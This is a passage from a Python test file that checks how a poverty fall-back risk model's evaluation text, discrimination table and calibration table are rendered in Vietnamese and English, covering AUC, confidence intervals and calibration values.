    vi = prose.evaluation_text(model)
    for piece in (f"AUC {model.auc:.3f}", f"đạt AUC {b.auc:.3f}", f"độ dốc {model.calibration_slope:.3f}"):
        assert piece.replace(".", ",") in vi, piece
    assert "thu nhập không quá 110% chuẩn nghèo" in vi


def test_discrimination_and_calibration_tables(model):
    d = prose.discrimination_table(model, lang="en")
    assert list(d.columns) == ["Score", "Role", "AUC (95% CI)", "Model AUC − score AUC (95% CI)"]
    assert d["Role"].tolist() == [
        "model",
        "baseline (best simple score)",
        "simple score",
        "simple score",
        "reference only, not the comparison",
    ]
    assert d.iloc[1]["Score"] == "Distance to the income line (income ÷ line)"
    lo, hi = model.auc_difference_ci
    assert d.iloc[1, 3] == f"{_signed(model.auc_difference, sign=True)} ({_signed(lo)} to {_signed(hi)})"
    assert d.iloc[0, 2] == f"{model.auc:.3f} ({model.auc_ci[0]:.3f} to {model.auc_ci[1]:.3f})"
    assert d.iloc[4]["Score"] == "Rule 'income at most 110% of the line'"
    vi = prose.discrimination_table(model)
    assert vi.columns[2] == "AUC (KTC 95%)" and vi.iloc[0, 2] == d.iloc[0, 2].replace(".", ",").replace(" to ", " đến ")
    c = prose.calibration_table(model, lang="en")
    assert c["Measure"].tolist() == [
        "Observed fall-back rate",
        "Mean predicted probability",
        "Calibration-in-the-large (intercept)",
        "Calibration slope",
    ]
    assert c["Ideal value"].tolist() == ["", "", "0", "1"]
    assert c.iloc[3]["Estimate"] == f"{model.calibration_slope:.3f}"
    assert c.iloc[2]["Verdict"] == c.iloc[3]["Verdict"] == "interval covers the ideal value"
    assert prose.calibration_table(model).iloc[2, 0] == "Hiệu chỉnh tổng thể (hệ số chặn)"
